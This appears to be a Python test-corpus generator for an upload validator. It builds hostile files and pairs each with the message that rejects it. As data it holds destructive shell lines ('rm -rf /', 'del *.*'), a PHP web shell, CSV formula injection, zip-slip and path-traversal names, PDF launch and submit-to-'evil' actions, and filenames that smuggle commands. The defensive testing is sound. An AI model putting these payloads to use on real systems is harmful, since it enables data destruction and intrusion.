"""The hostile files, all made here and none of them kept: each with the sentence that refuses it.

An entry is a name, the bytes, and what becomes of them: a refusal to the letter, or TAKEN for what
is harmless once it is drawn anew or only ever downloaded; EITHER where that is up to the decoder,
as long as nothing of it survives. `python -m tests.evidence.corpus FOLDER`
writes them down, to be tried by hand.
"""

import io
import struct
import sys
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

from tests.evidence import hostile

ALLOWED = "Upload a PNG, JPEG, WebP, GIF, PDF, MP4, MOV or WebM file."
TAKEN = ""
EITHER = "as the decoder likes"
REAL = {"png": "PNG", "jpg": "JPEG", "webp": "WebP", "gif": "GIF", "pdf": "PDF", "mp4": "MP4"}
REAL |= {"mov": "MOV", "webm": "WebM"}


@dataclass(frozen=True)
class Hostile:
    """A file and what is to become of it."""

    name: str
    content: bytes
    outcome: str


def damaged(name: str) -> str:
    return f"“{name}” is damaged or incomplete. Choose another copy of it."


def not_real(name: str, ending: str) -> str:
    return f"“{name}” is not a real {REAL[ending]} file."


def too_large(name: str) -> str:
    return f"“{name}” is larger than 40 megapixels. Choose a smaller picture."


def locked(name: str) -> str:
    return f"“{name}” needs a password. Remove the password first."


OTHER_KINDS = {
    "logo.svg": hostile.SVG,
    "page.html": hostile.HTML,
    "page.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"/>',
    "data.xml": hostile.XML,
    "feed.rss": hostile.XML,
    "setup.exe": hostile.EXE,
    "lib.dll": hostile.EXE,
    "run.sh": b"#!/bin/sh\nrm -rf /\n",
    "run.bat": b"@echo off\r\ndel *.*\r\n",
    "app.js": b"alert(1)",
    "page.php": b"<?php system($_GET['c']); ?>",
    "page.jsp": b'<% Runtime.getRuntime().exec("id"); %>',
    "files.zip": hostile.ZIP,
    "letter.docm": hostile.DOCM,
    "letter.docx": hostile.archive("[Content_Types].xml", "word/document.xml"),
    "sheet.xlsm": hostile.archive("[Content_Types].xml", "xl/vbaProject.bin"),
    "app.jar": hostile.archive("META-INF/MANIFEST.MF", "Main.class"),
    "app.apk": hostile.archive("AndroidManifest.xml", "classes.dex"),
    "slip.zip": hostile.archive("../../etc/passwd"),
    "files.tar": bytes(257) + b"ustar\x0000" + bytes(240),
    "files.gz": b"\x1f\x8b\x08\0" + bytes(30),
    "files.7z": b"7z\xbc\xaf\x27\x1c" + bytes(30),
    "files.rar": b"Rar!\x1a\x07\x01\0" + bytes(30),
    "disk.iso": bytes(2048),
    "photo.heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(64),
    "photo.avif": b"\0\0\0\x18ftypavif\0\0\0\0mif1avif" + bytes(64),
    "photo.bmp": b"BM" + bytes(60),
    "photo.tiff": b"II*\0\x08\0\0\0" + bytes(60),
    "photo.ico": b"\0\0\x01\0\x01\0" + bytes(60),
    "photo.psd": b"8BPS\0\x01" + bytes(60),
    "draw.eps": b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file\n",
    "draw.ps": b"%!PS\n",
    "draw.wmf": b"\xd7\xcd\xc6\x9a" + bytes(60),
    "call.avi": b"RIFF\x24\0\0\0AVI LIST" + bytes(60),
    "call.mkv": hostile.webm(b"matroska"),
    "call.m3u8": b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n",
    "call.wmv": b"\x30\x26\xb2\x75\x8e\x66\xcf\x11" + bytes(60),
    "call.mp3": b"ID3\x04" + bytes(60),
    "film.swf": b"FWS\x0a" + bytes(60),
    "notes.txt": b"it did not work",
    "notes.rtf": b"{\\rtf1 {\\object\\objupdate}}",
    "table.csv": b"=cmd|' /C calc'!A0\n",
    "link.url": b"[InternetShortcut]\nURL=file://evil/\n",
    "link.lnk": b"L\0\0\0\x01\x14\x02\0" + bytes(60),
    "mail.eml": b"From: a\r\n\r\n",
    "font.ttf": b"\0\x01\0\0\0\x0f" + bytes(60),
    "code.wasm": b"\0asm\x01\0\0\0",
    "photo.png.exe": hostile.EXE,
    "photo.png.html": hostile.picture(),
    "photo.png.svg": hostile.SVG,
    "photo.jpg ": b"",
    "bill.pdf.scr": hostile.EXE,
}
"""What has an ending that we do not take, whatever is in it."""

PRETENDERS = {
    "html": hostile.HTML,
    "svg": hostile.SVG,
    "xml": hostile.XML,
    "exe": hostile.EXE,
    "zip": hostile.ZIP,
    "docm": hostile.DOCM,
    "text": b"it did not work",
    "zeros": bytes(512),
}
"""What stands under each of the endings that we do take."""


def _chunks(*chunks: tuple[bytes, bytes]) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"".join(hostile._chunk(*chunk) for chunk in chunks)


def _head(width: int, height: int, depth: int = 8, colour: int = 2) -> tuple[bytes, bytes]:
    return b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)


def _picture_with(info: bytes) -> bytes:
    """A PNG with a text chunk of this kind, which is not to survive."""
    plain = hostile.picture("PNG")
    return plain[:33] + hostile._chunk(info, b"Comment\0<script>alert(1)</script>") + plain[33:]


def _gif(width: int, height: int) -> bytes:
    return b"GIF89a" + struct.pack("<HHBBB", width, height, 0, 0, 0) + (
        b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x4c\x01\0;"
    )  # fmt: skip


def _webp(width: int, height: int) -> bytes:
    body = b"VP8X" + struct.pack("<I", 10) + bytes(4)
    body += struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def corpus() -> Iterator[Hostile]:
    """All of them, in the order of the table of what people with bad intentions send."""
    for name, content in OTHER_KINDS.items():
        if content:
            yield Hostile(name, content, ALLOWED)
    for kind, content in PRETENDERS.items():
        for ending in REAL:
            yield Hostile(f"{kind}.{ending}", content, not_real(f"{kind}.{ending}", ending))
        yield Hostile(f"nameless {kind}", content, ALLOWED)
    yield from _pictures()
    yield from _documents()
    yield from _videos()
    yield from _names()


def _pictures() -> Iterator[Hostile]:
    yield Hostile("wall.png", hostile.huge_png(), too_large("wall.png"))
    for name, width, height in (("wide.png", 2**31 - 1, 1), ("tall.png", 1, 2**31 - 1)):
        picture = _chunks(_head(width, height), (b"IDAT", zlib.compress(b"\0")), (b"IEND", b""))
        yield Hostile(name, picture, too_large(name))
    yield Hostile("wall.gif", _gif(65535, 65535), too_large("wall.gif"))
    yield Hostile("nothing.png", _chunks(_head(0, 0), (b"IEND", b"")), damaged("nothing.png"))
    for form, ending in (("PNG", "png"), ("JPEG", "jpg"), ("GIF", "gif"), ("WEBP", "webp")):
        whole = hostile.picture(form, (300, 200))
        yield Hostile(f"half.{ending}", whole[: len(whole) // 2], damaged(f"half.{ending}"))
        yield Hostile(f"polyglot.{ending}", whole + hostile.SCRIPT, TAKEN)
        yield Hostile(f"with-a-zip.{ending}", whole + hostile.ZIP, TAKEN)
    for chunk in (b"tEXt", b"iTXt", b"zTXt", b"eXIf", b"iCCP"):
        name = f"hidden-{chunk.decode()}.png"
        yield Hostile(name, _picture_with(chunk), TAKEN if chunk == b"tEXt" else EITHER)
    yield Hostile("place.jpg", hostile.jpeg_with_a_place(), TAKEN)
    yield Hostile("canvas.webp", _webp(16384, 16384), EITHER)
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "PNG", icc_profile=b"<script>alert(1)</script>" * 9)
    yield Hostile("profile.png", out.getvalue(), TAKEN)


def _documents() -> Iterator[Hostile]:
    yield Hostile("script.pdf", hostile.pdf_with_javascript(), TAKEN)
    for what, body in (
        ("launch", b"/OpenAction << /S /Launch /F (cmd.exe) >> "),
        ("uri", b"/OpenAction << /S /URI /URI (file:///etc/passwd) >> "),
        ("embedded", b"/Names << /EmbeddedFiles 5 0 R >> "),
        ("form", b"/AcroForm << /XFA 5 0 R >> "),
        ("submit", b"/AA << /O << /S /SubmitForm /F (http://evil/) >> >> "),
    ):
        yield Hostile(f"{what}.pdf", hostile.pdf(body), TAKEN)
    yield Hostile("locked.pdf", hostile.encrypted_pdf(), locked("locked.pdf"))
    direct = hostile.pdf(trailer=b"/Encrypt << /Filter /Standard >> ")
    yield Hostile("locked-inside.pdf", direct, locked("locked-inside.pdf"))
    yield Hostile("cut.pdf", hostile.pdf()[:-20], damaged("cut.pdf"))
    yield Hostile("head.pdf", b"%PDF-1.7\n", damaged("head.pdf"))
    yield Hostile("mz.pdf", b"MZ" + hostile.pdf(), not_real("mz.pdf", "pdf"))
    yield Hostile("html.first.pdf", hostile.HTML + hostile.pdf(), not_real("html.first.pdf", "pdf"))


def _videos() -> Iterator[Hostile]:
    whole = hostile.video()
    yield Hostile("cut.mp4", whole[:-1], damaged("cut.mp4"))
    yield Hostile("head.mp4", whole[:24], damaged("head.mp4"))
    yield Hostile("tail.mp4", whole + hostile.SCRIPT, damaged("tail.mp4"))
    endless = whole[:24] + struct.pack(">I4sQ", 1, b"moov", 2**63)
    yield Hostile("endless.mp4", endless, damaged("endless.mp4"))
    tiny = whole[:24] + struct.pack(">I4s", 8, b"free") * 3000
    yield Hostile("boxes.mp4", tiny, damaged("boxes.mp4"))
    yield Hostile("small.mp4", whole[:24] + struct.pack(">I4s", 4, b"moov"), damaged("small.mp4"))
    sound = hostile.video(b"M4A ")
    yield Hostile("sound.mp4", sound, not_real("sound.mp4", "mp4"))
    matroska = hostile.webm(b"matroska")
    yield Hostile("film.webm", matroska, not_real("film.webm", "webm"))


def _names() -> Iterator[Hostile]:
    picture = hostile.picture()
    for name in (
        "../../x.png", "..\\..\\x.png", "/etc/passwd.png", "C:\\x.png", "a\0b.png", "\ud800.png",
        "a\r\nSet-Cookie: x=1.png", "\u202egnp.exe.png", "x" * 300 + ".png", ".png", "<b>.png",
        '"; rm -rf /.png', "{{7*7}}.png", "%s%n.png", "\u200b.png", "CON.png", "=1+1.png",
    ):  # fmt: skip
        yield Hostile(name, picture, TAKEN)
    yield Hostile("empty.png", b"", "“empty.png” is empty. Choose another file.")


def main(folder: Path) -> None:
    """Write all files down, each under its number."""
    folder.mkdir(parents=True, exist_ok=True)
    for number, file in enumerate(corpus()):
        (folder / f"{number:03}").write_bytes(file.content)


if __name__ == "__main__":
    main(Path(sys.argv[1]))
